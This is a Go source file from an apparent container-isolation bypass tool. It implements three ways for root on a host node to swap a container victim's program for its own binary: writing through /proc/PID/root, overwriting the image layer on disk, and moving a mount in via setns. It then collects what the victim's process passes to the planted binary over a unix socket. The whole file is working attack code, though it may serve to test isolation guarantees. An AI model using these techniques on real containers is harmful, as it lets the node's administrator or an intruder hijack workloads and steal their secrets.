package accesspath

import (
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"time"

	"golang.org/x/sys/unix"

	"svc.example/bypass/internal/kernel"
	"svc.example/bypass/internal/victim"
)

// nextExec is how long the victim has to start its tool again.
const nextExec = 20 * time.Second

var execProcRoot = Path{
	Name: "exec-proc-root", Title: "a program of the container replaced through /proc/P/root, then started by the victim",
	Kind: toChild, Needs: []string{needsTool},
	walk: func(a *attempt) ([]byte, error) {
		return betrayed(a, func() error {
			tool := kernel.Proc(a.victim.PID, "root") + a.victim.Tool
			if err := copySelf(tool + ".new"); err != nil {
				return err
			}
			return os.Rename(tool+".new", tool)
		})
	},
}

var execNodeDisk = Path{
	Name: "exec-node-disk", Title: "the same, overwritten in the folder of its image layer on the node",
	Kind: toChild, Needs: []string{needsTool},
	walk: func(a *attempt) ([]byte, error) {
		return betrayed(a, func() error { return copySelf(a.victim.LowerTool()) })
	},
}

var execMovedMount = Path{
	Name: "exec-moved-mount", Title: "the same, covered by a mount that is moved into the container (setns)",
	Kind: toChild, Needs: []string{needsTool},
	walk: func(a *attempt) ([]byte, error) {
		return betrayed(a, func() error { return moveMountOver(a) })
	},
}

// betrayed has root's code in the place of the victim's tool, and reads what it inherits from the victim.
func betrayed(a *attempt, plant func() error) ([]byte, error) {
	listener, err := net.ListenUnix("unix", &net.UnixAddr{Name: victim.Confidant(a.victim.PID), Net: "unix"})
	if err != nil {
		return nil, err
	}
	defer listener.Close()
	if err := plant(); err != nil {
		return nil, err
	}
	if err := listener.SetDeadline(time.Now().Add(nextExec)); err != nil {
		return nil, err
	}
	connection, err := listener.Accept()
	if err != nil {
		return nil, fmt.Errorf("the victim did not start it: %w", err)
	}
	defer connection.Close()
	return io.ReadAll(connection)
}

// copySelf writes this program to the path, in place where there is a file already.
func copySelf(path string) error {
	source, err := os.Open("/proc/self/exe")
	if err != nil {
		return err
	}
	defer source.Close()
	target, err := createUnlessBusy(path)
	if err != nil {
		return err
	}
	if _, err := io.Copy(target, source); err != nil {
		target.Close()
		return err
	}
	return target.Close()
}

// createUnlessBusy waits while the kernel is just reading the file to execute it.
func createUnlessBusy(path string) (file *os.File, err error) {
	for range 100 {
		file, err = os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o755)
		if !isBusy(err) {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	return file, err
}

func isBusy(err error) bool {
	failure, ok := err.(*os.PathError)
	return ok && failure.Err == unix.ETXTBSY
}

// moveMountOver enters the victim's mounts as `nsenter` does, with a mount of the node's in hand.
func moveMountOver(a *attempt) error {
	own := filepath.Join(a.victim.Folder, "own")
	if err := copySelf(own); err != nil {
		return err
	}
	tree, err := unix.OpenTree(unix.AT_FDCWD, own, unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)
	if err != nil {
		return fmt.Errorf("open_tree: %w", err)
	}
	defer unix.Close(tree)
	if err := enterMounts(a.victim.PID); err != nil {
		return err
	}
	if err := unix.MoveMount(tree, "", unix.AT_FDCWD, a.victim.Tool, unix.MOVE_MOUNT_F_EMPTY_PATH); err != nil {
		return fmt.Errorf("move_mount: %w", err)
	}
	return nil
}

func enterMounts(pid int) error {
	mounts, err := unix.Open(kernel.Proc(pid, "ns/mnt"), unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open: %w", err)
	}
	defer unix.Close(mounts)
	if err := unix.Unshare(unix.CLONE_FS); err != nil {
		return fmt.Errorf("unshare: %w", err)
	}
	if err := unix.Setns(mounts, unix.CLONE_NEWNS); err != nil {
		return fmt.Errorf("setns: %w", err)
	}
	return nil
}
